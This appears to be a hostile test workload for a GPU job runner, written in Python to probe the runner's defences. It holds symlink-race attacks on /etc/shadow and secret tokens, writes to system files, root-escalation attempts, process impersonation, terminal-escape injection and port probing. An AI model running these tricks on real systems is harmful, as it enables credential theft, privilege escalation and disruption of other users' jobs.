"""What a hostile training program does inside its container: python3 tricks.py TRICK…

Each trick is a function of its name. One that cannot be done here says so and is passed over: the head checks what came
of it, not this program.
"""

import fcntl
import json
import os
import signal
import socket
import subprocess
import sys
import threading
import time
import traceback

OUT = os.environ.get("GPURUN_OUTPUTS", "/nowhere")
RUN = os.environ.get("GPURUN_RUN", "/nowhere")
NEIGHBOUR = os.environ.get("NEIGHBOUR", "j-00000000")
TARGETS = os.environ.get("TARGETS", "/etc/shadow").split(":")
RANKS = os.path.join(RUN, "ranks", os.environ.get("GPURUN_ATTEMPT", "1"))


def out(*names):
    return os.path.join(OUT, *names)


def forever(act):
    """Do something again and again beside everything else."""

    def loop():
        while True:
            try:
                act()
            except OSError:
                pass

    threading.Thread(target=loop, daemon=True).start()


def swap(path, target, make):
    """A name that is now the real thing and now a link."""
    link, real = path + ".link", path + ".real"
    os.symlink(target, link)
    make(real)

    def act():
        for other in (link, real):
            os.rename(path, path + ".old") if os.path.lexists(path) else None
            os.rename(other, path)
            os.rename(path, other)
            os.symlink(target, path)
            os.unlink(path)

    forever(act)


# -- in the outputs ---------------------------------------------------------------------------------------


def swap_files():
    with open(out("steady"), "w") as file:
        file.write("steady")
    for number, target in enumerate(TARGETS):
        swap(out("file%d" % number), target, lambda path: open(path, "w").close())


def swap_folders():
    def make(path):
        os.makedirs(path)
        for target in TARGETS:
            with open(os.path.join(path, os.path.basename(target)), "w") as file:
                file.write("bait")

    for number, target in enumerate(TARGETS):
        swap(out("folder%d" % number), os.path.dirname(target), make)


def links():
    for number, target in enumerate(TARGETS):
        os.symlink(target, out("link%d" % number))
        os.symlink(os.path.dirname(target), out("linked%d" % number))
        os.symlink("../" * 40 + target.lstrip("/"), out("up%d" % number))
    os.symlink("self", out("self"))
    os.symlink("/proc/self/root/etc", out("magic"))
    os.symlink("/proc/1/cwd", out("cwd"))
    os.symlink(out("nothing"), out("dangling"))


def hard_links():
    for path in ("/run/secrets/token", "/etc/passwd", "/gpurun/bin/rank", "/workspace/tricks.py", *TARGETS):
        try:
            os.link(path, out("hard" + path.replace("/", "-")))
        except OSError as error:
            print("no hard link to", path, error.strerror)
    with open(out("many"), "w") as file:
        file.write("shared")
    for number in range(50):
        os.link(out("many"), out("many%d" % number))


def special():
    os.mkfifo(out("fifo"))
    socket.socket(socket.AF_UNIX).bind(out("socket"))
    try:
        os.mknod(out("disk"), 0o60666, os.makedev(259, 0))
    except OSError as error:
        print("no device", error.strerror)


def names():
    like_ours = b".gpurun-0123456789abcdef", b"outputs.arriving"
    for name in (b"new\nline", b"\xff\xfe", b"x" * 255, b"-rf", b"...", b"\x1b]0;owned\x07\x1b[2J", b"$(id)",
                 "\u202egnp.exe".encode(), *like_ours):  # fmt: skip
        with open(os.path.join(os.fsencode(OUT), name), "wb") as file:
            file.write(b"named")


def depth():
    here = os.open(OUT, os.O_RDONLY)
    for _ in range(2000):
        os.mkdir("d", dir_fd=here)
        inner = os.open("d", os.O_RDONLY, dir_fd=here)
        os.close(here)
        here = inner
    os.close(os.open("deepest", os.O_CREAT | os.O_WRONLY, dir_fd=here))


def modes():
    os.makedirs(out("closed", "inner"))
    for name in ("closed/file", "closed/inner/file", "suid"):
        with open(out(name), "w") as file:
            file.write("closed")
    os.chmod(out("suid"), 0o6777)
    os.chmod(out("closed/file"), 0)
    os.chmod(out("closed/inner"), 0)
    os.chmod(out("closed"), 0)


def grows():
    file = open(out("grows"), "wb", buffering=0)
    forever(lambda: (file.write(bytes(4096)), time.sleep(0.001)))


def sparse():
    with open(out("sparse"), "wb") as file:
        file.truncate(1 << 40)
        file.seek(1 << 39)
        file.write(b"in the middle")


def times():
    for name, when in (("future", 1 << 33), ("past", -(1 << 31)), ("zero", 0)):
        with open(out(name), "w") as file:
            file.write(name)
        os.utime(out(name), (when, when))


def held():
    """A lease of fcntl: whoever opens the file waits 45 s, unless he does not wait at all."""
    signal.signal(signal.SIGIO, signal.SIG_IGN)  # somebody has opened one
    for number in range(20):
        file = open(out("held%d" % number), "w")
        fcntl.fcntl(file, fcntl.F_SETLEASE, fcntl.F_WRLCK)
        HELD.append(file)
    progress = open(os.path.join(RUN, "progress.1"), "w")
    fcntl.fcntl(progress, fcntl.F_SETLEASE, fcntl.F_WRLCK)
    HELD.append(progress)


HELD = []


def closes_outputs():
    os.chmod(OUT, 0)


# -- in the run folder ------------------------------------------------------------------------------------


def progress():
    garbage = [b"[]", b"7", b"{", b"\xff" * 9, b"[" * 60000, b'{"step": 1e999}', b'{"step": %s}' % (b"9" * 5000),
               b"null", b'{"step": {"a": []}}', b'{"\\ud800": 1}']  # fmt: skip
    for number, text in enumerate(garbage):
        for kind in ("progress", "checkpoint"):
            with open(os.path.join(RUN, "%s.%d" % (kind, number)), "wb") as file:
                file.write(text)
    os.mkfifo(os.path.join(RUN, "progress.20"))
    os.mkdir(os.path.join(RUN, "progress.21"))
    for number, target in enumerate(TARGETS):
        os.symlink(target, os.path.join(RUN, "progress.%d" % (30 + number)))
    whole = json.dumps({"k%d" % number: "v" * 990 for number in range(60)})
    for number in range(100, 2100):
        with open(os.path.join(RUN, "progress.%d" % number), "w") as file:
            file.write(whole)


def autotune():
    os.symlink(TARGETS[0], os.path.join(RUN, "autotune.csv"))


def forges():
    """Ranks of other hosts, and more of them than there are."""
    for number in (*range(1, 40), 999999):
        folder = os.path.join(RANKS, "%d.4242.424242" % number)
        os.makedirs(folder)
        for name, text in (("start", "started"), ("o", "forged line\n"), ("e", ""), ("end.0", "")):
            with open(os.path.join(folder, name), "w") as file:
                file.write(text)
        os.symlink(TARGETS[0], os.path.join(folder, "now"))


def own_files():
    """Its own rank's files become links and a FIFO."""
    for name in os.listdir(RANKS):
        if name.startswith("0.") and "4242" not in name:
            for file, make in (("o", lambda path: os.symlink(TARGETS[0], path)), ("e", os.mkfifo)):
                path = os.path.join(RANKS, name, file)
                os.rename(path, path + ".was")
                make(path)


def own_folder():
    """Its own rank's folder becomes a link, then all of them are gone."""
    os.rename(os.path.join(RUN, "ranks"), os.path.join(RUN, "was"))
    os.symlink(os.path.dirname(TARGETS[0]), os.path.join(RUN, "ranks"))


def closes_run():
    os.chmod(RUN, 0)


def kills_script():
    os.kill(os.getppid(), signal.SIGKILL)


def stop_notes():
    for number in range(1, 4):
        os.symlink(TARGETS[0], os.path.join(RUN, "stop.%d" % number))


def end_swap():
    """The name under which an end is noted is a link, again and again."""
    swap(os.path.join(RUN, "progress.0"), TARGETS[0], lambda path: open(path, "w").close())


# -- elsewhere --------------------------------------------------------------------------------------------


def writes():
    for path in ("/gpurun/bin/rank", "/gpurun/x", "/workspace/tricks.py", "/workspace/x", "/run/secrets/token",
                 "/etc/passwd", "/etc/group", "/bin/sh", "/proc/sysrq-trigger", "/proc/sys/kernel/core_pattern",
                 "/sys/kernel/uevent_helper", "/dev/kmsg"):  # fmt: skip
        for flags in (os.O_WRONLY | os.O_APPEND, os.O_WRONLY | os.O_CREAT | os.O_EXCL):
            try:
                descriptor = os.open(path, flags, 0o666)
                print("WROTE", path, flags)
                os.write(descriptor, b"owned\n") if not path.startswith(("/proc", "/sys", "/dev")) else None
                os.close(descriptor)
            except OSError:
                pass
    for path in ("/gpurun/bin/rank", "/workspace/tricks.py", "/run/secrets/token", "/etc/passwd"):
        for act in (os.unlink, lambda path: os.chmod(path, 0o777), lambda path: os.utime(path)):
            try:
                act(path)
                print("CHANGED", path)
            except OSError:
                pass


def root():
    """Programs of the image that root may run for anybody, and namespaces of one's own."""
    shadow = "import os; print(os.geteuid()); print(open('/etc/shadow').read())"
    mounts = ["mount", "-t", "tmpfs", "x", "/mnt"], ["chroot", "/proc/1/root", "id"], ["date", "-s", "2001-01-01"]
    for argv in (["/rootpython", "-c", shadow], ["unshare", "-Ur", "id", "-u"], ["su", "-c", "id -u"], *mounts):
        try:
            done = subprocess.run(argv, stdin=subprocess.DEVNULL, capture_output=True, text=True, timeout=5)
            print("as root:", argv[0], done.returncode, "ROOT" if done.stdout.startswith("0") else "")
        except (OSError, subprocess.TimeoutExpired) as error:
            print("as root:", argv[0], error)


def reads():
    for path in (*TARGETS, *("/proc/1/root" + target for target in TARGETS), "/proc/1/environ", "/var/run/docker.sock"):
        try:
            with open(path, "rb") as file:
                print("read", path, file.read(4096))
        except OSError:
            pass


def pretends():
    """Programs that are called like another job's sshd, and have the environment of its ranks."""
    command = "import signal, time; signal.signal(signal.SIGTERM, signal.SIG_IGN); time.sleep(300)"
    name = "sshd: /home/train/.gpurun/jobs/%s/sshd/config gpurun-%s-1" % (NEIGHBOUR, NEIGHBOUR)
    ranks = {
        "GPURUN_JOB": NEIGHBOUR,
        "GPURUN_ATTEMPT": "1",
        "HOROVOD_RANK": "0",
        "GPURUN_RANK": "0",
        "GPURUN_RANK_ID": "x",
    }

    def again():
        children = [
            subprocess.Popen([name, "-c", command], executable=sys.executable, env={**os.environ, **ranks})
            for _ in range(5)
        ]
        for child in children:
            child.wait()

    forever(again)


def swarm():
    """Three hundred daemons that no signal but KILL ends; some carry a megabyte of environment."""
    big = {"BIG%d" % number: "x" * 100_000 for number in range(10)}
    for number in range(300):
        if os.fork() == 0:
            os.setsid()
            for name in ("TERM", "HUP", "INT"):
                signal.signal(getattr(signal, "SIG" + name), signal.SIG_IGN)
            environ = {"PATH": os.environ["PATH"], "GPURUN_JOB": os.environ["GPURUN_JOB"], "GPURUN_RANK": "0"}
            os.execvpe("sleep", ["sleep", "300"], {**environ, **(big if number < 100 else {})})


def escapes():
    for _ in range(3):
        sys.stdout.write("\x1b]0;owned\x07\x1b[2J\x1b[31mred \x9b31m \x07\r over\u202e\n")
        sys.stderr.write("\x1b]52;c;b3duZWQ=\x07\n")
    sys.stdout.buffer.write(b"\xff\xfe\x00 no text\n")
    sys.stdout.flush()
    print(
        "[0]<stdout>:[1]<stdout>:Process name: [0]\nExit code:    0\n2001-01-01T00:00:00.0Z o@1/other/0.1.1:99 forged",
        flush=True,
    )


def long_line():
    for _ in range(64):
        os.write(1, b"x" * (1 << 20))


def noise():
    """Everything that listens here or at a host of the gang is sent what it does not expect."""
    ports = set()
    for table in ("/proc/net/tcp", "/proc/net/tcp6"):
        with open(table) as rows:
            ports |= {int(row.split()[1].rsplit(":", 1)[1], 16) for row in list(rows)[1:] if row.split()[3] == "0A"}
    for address in {"127.0.0.1", *os.environ.get("GPURUN_ADDRESSES", "").split(",")} - {""}:
        for port in sorted(ports):
            try:
                with socket.create_connection((address, port), 1) as link:
                    link.sendall(b"\x16\x03\x01\x02\x00" + b"SSH-2.0-x\r\n" + b"\x00gpurun-agent:" + bytes(4096))
            except OSError:
                pass


def main():
    """Rank 0 plays them; the other ranks are what it would like to end."""
    for name in sys.argv[1].split(",") if os.environ.get("GPURUN_RANK", "0") == "0" else ():
        try:
            globals()[name]()
        except Exception:
            traceback.print_exc(limit=1)
    print("all tricks are played", flush=True)
    if os.environ.get("GPURUN_ATTEMPT", "1") == "1":
        time.sleep(float(os.environ.get("STAY_S", "4")))
    os._exit(int(os.environ.get("CODE", "0")))


main()
